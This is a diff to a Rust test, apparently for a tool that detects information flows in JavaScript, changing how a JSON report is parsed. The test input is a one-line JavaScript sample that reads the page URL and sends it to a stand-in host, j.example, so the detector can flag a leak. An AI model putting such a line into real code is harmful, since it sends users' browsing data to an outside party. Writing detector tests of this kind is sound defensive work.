@@ -199,8 +199,7 @@ fn json_report_shape() {
         "var u = content.location.href; var r = XHRWrapper(\"http://j.example/x\"); r.send(u);",
     )
     .unwrap();
-    let json: serde_json::Value =
-        serde_json::from_str(&report.signature.to_json()).expect("valid json");
+    let json = minijson::Json::parse(&report.signature.to_json()).expect("valid json");
     assert!(json["flows"].as_array().is_some_and(|a| !a.is_empty()));
     assert_eq!(json["flows"][0]["flow"], "type1");
     assert!(json["sinks"].as_array().is_some());
